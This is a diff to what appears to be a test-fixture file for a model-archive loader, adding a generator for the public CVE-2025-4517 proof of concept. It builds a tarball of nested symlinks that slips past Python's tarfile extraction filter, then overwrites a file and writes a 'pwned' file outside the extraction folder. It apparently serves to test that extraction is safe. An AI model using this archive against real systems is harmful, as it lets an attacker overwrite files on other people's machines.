@@ -117,3 +117,64 @@ def traversal_archive() -> bytes:
 
 def configless_archive() -> bytes:
     return tar_gz({"1/model.onnx": onnx_bytes(add_constant_onnx(1.0))})
+
+
+# -- hostile archives ------------------------------------------------------------------------
+
+
+def _symlink(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = target
+    info.mode = 0o777
+    return info
+
+
+def _dir(name: str) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = tarfile.DIRTYPE
+    info.mode = 0o777
+    return info
+
+
+def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, io.BytesIO]:
+    info = tarfile.TarInfo(name)
+    info.size = len(data)
+    info.mode = 0o644
+    return info, io.BytesIO(data)
+
+
+def cve_2025_4517_archive(dest_len: int, *, levels_up: int = 3, prefix: str = "") -> bytes:
+    """The public proof of concept of CVE-2025-4517 (CPython's ``test_realpath_limit_attack``),
+    for an extraction folder whose absolute path is ``dest_len`` characters long.
+
+    Sixteen nested folders whose names are as long as PATH_MAX allows, each reachable through
+    a one-letter symlink (``a`` -> ``ddd…``, ``ddd…/b`` -> ``ddd…``, ...); then a link
+    ``a/b/…/p/lll…`` -> sixteen ``..``: ``os.path.realpath`` cannot expand it (the expanded path
+    is longer than PATH_MAX), so ``tarfile.data_filter`` judges it lexically and lets it pass,
+    while the kernel follows it back to the top. ``escape`` -> that link's ``..`` ``levels_up``
+    times then leaves the folder; ``flaglink`` is a hard link to ``escape/flag`` (a file that
+    exists outside) and is then overwritten with ``b"overwritten"``, and ``escape/pwned`` is
+    created with ``b"pwned"``: on an affected Python both land ``levels_up`` folders above
+    the extraction folder. ``prefix`` puts every member under a folder (``model/``; the
+    levels still count from the extraction folder).
+    """
+    steps = "abcdefghijklmnop"
+    component = "d" * ((4096 - dest_len - len(prefix) - 1) // (len(steps) + 1))
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
+        path = prefix.rstrip("/")
+        for step in steps:
+            tar.addfile(_dir(f"{path}/{component}".lstrip("/")))
+            tar.addfile(_symlink(f"{path}/{step}".lstrip("/"), component))
+            path = f"{path}/{component}"
+        top = "/".join([prefix.rstrip("/"), *steps]).lstrip("/")
+        linkpath = f"{top}/{'l' * 254}"
+        tar.addfile(_symlink(linkpath, "/".join([".."] * len(steps))))
+        escape = f"{prefix}escape"
+        up = levels_up + len([p for p in prefix.split("/") if p])
+        tar.addfile(_symlink(escape, "/".join([linkpath.removeprefix(prefix), *[".."] * up])))
+        tar.addfile(_symlink(f"{prefix}flaglink", f"{escape}/flag", tarfile.LNKTYPE))
+        tar.addfile(*_file(f"{prefix}flaglink", b"overwritten"))
+        tar.addfile(*_file(f"{escape}/pwned", b"pwned"))
+    return buffer.getvalue()
